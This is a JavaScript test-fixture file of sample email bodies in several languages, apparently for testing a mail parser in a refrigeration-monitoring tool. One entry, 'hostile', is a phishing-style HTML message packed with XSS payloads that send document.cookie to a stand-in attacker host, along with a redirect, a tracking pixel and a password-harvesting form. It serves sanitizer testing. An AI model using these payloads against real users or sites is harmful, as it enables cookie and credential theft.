// @ts-check
/** @param {string} text */
const lines = (text) => text.replace(/\n/g, '\r\n');

/** The words of the messages that are written by hand. */
export const strangeBodies = {
  // Old programs write ş and ţ with a cedilla: ISO-8859-2 has no others.
  romanian: lines(`Bună ziua,

vă trimit situaţia din camera veche: două sonde arată diferenţe de peste un grad faţă de termometrul etalon.
Vă rog să ne spuneţi dacă le putem roti până la următoarea etalonare.

Cu stimă,
Ştefan Ionescu
`),
  bristol: lines(`Hi Mara,

Eleanor’s asked me to put the spare logger in the port cellar – that’s the damp one. Any objections?
She reckons it’ll save us “about €200 in corks”.

Declan
`),
  russian: lines(`Добрый день!

Предлагаем датчики температуры для холодильных камер, диапазон от -40 до +60 °C.
Каталог и цены вышлем по запросу. Минимальная партия 50 штук.

С уважением,
отдел продаж «Балтприбор»
`),
  japanese: lines(`リンドナー様

いつもお世話になっております。
ご依頼のセンサー(500個)の見積もりをお送りいたします。納期は六週間です。
ご検討のほど、よろしくお願いいたします。

山田
`),
  brewery: lines(`Störung im Gärkeller: Kühlung für Tank 7 außer Betrieb.
Bitte prüfen. Diese Nachricht wurde von der Sudhaussteuerung verschickt.
`),
  supplierDay: lines(`Beste leveranciers,

op donderdag over drie weken openen we hal 7 en daar hoort een rondje bij langs iedereen die eraan heeft meegebouwd.
Inloop vanaf twee uur, rondleiding om drie uur, daarna haring. Warme jas meenemen.

Tot dan,
Sanne Bakker
`),
  group: lines(`Guten Tag zusammen,

ab dem Monatsende nimmt das neue Lager Lieferungen an: Tor 5, Einfahrt über den Kreisel, werktags bis 15 Uhr.
Am alten Tor wird nichts mehr angenommen.

Freundliche Grüße
Béatrice Favre
Einkauf, Käserei Alpstein AG
`),
  twice: lines(`{name} wurde gescannt.
Prüfziffer {code}
`),
  noReferences: lines(`Dag Mara,

vanaf mijn telefoon, dus kort: wij zijn akkoord met het voorstel, Fenna tekent morgen.

Daan
`),
  htmlOnly: lines(`<!DOCTYPE html><html><head><style>td { padding: 4px 12px }</style></head><body>
<p>Hallo Mara,</p><p>hieronder de planning. Cel 12 staat die week leeg, dan kunnen jullie de voelers wisselen.</p>
<table border="1"><tr><th>Cel</th><th>Maandag</th><th>Donderdag</th></tr>
<tr><td>11</td><td>rozen, 4 °C</td><td>rozen, 4 °C</td></tr><tr><td>12</td><td>leeg</td><td>leeg</td></tr>
<tr><td>13</td><td>tulpen, 2 °C</td><td>orchideeën, 12 °C</td></tr></table><p>Groet,<br>Fenna</p></body></html>
`),
  hostile: lines(`<html><head><script>document.location='https://0365-login.example/steal?c='+document.cookie</script>
<meta http-equiv="refresh" content="0;url=https://0365-login.example/"><base href="https://0365-login.example/">
<style>body { background: url(https://0365-login.example/seen.png) } @import url(https://0365-login.example/x.css);</style></head>
<body onload="alert('loaded')"><img src="https://0365-login.example/track.gif?u=demo" width="1" height="1" alt="">
<p>Your password expires <b>today</b>. <a href="javascript:alert(document.domain)">Keep my password</a> or
<a href="https://0365-login.example/login" onclick="steal()">sign in</a>.</p>
<iframe src="https://0365-login.example/frame"></iframe><svg onload="alert(1)"><circle r="9"/></svg>
<form action="https://0365-login.example/post"><input name="password" type="password"><button>Continue</button></form>
<img src="x" onerror="fetch('https://0365-login.example/'+document.cookie)"><math><mi xlink:href="data:x,<script>alert(2)</script>"></mi></math>
</body></html>
`),
  signed: lines(`Guten Tag Frau Lindner,

hiermit gebe ich die Alarmgrenzen 2 bis 8 =C2=B0C f=C3=BCr die K=C3=BChlzelle 4 frei, mit einer
Verz=C3=B6gerung von sechs Minuten. Diese Nachricht ist elektronisch signiert.

Katrin Vogelsang
Leitende Apothekerin`),
};
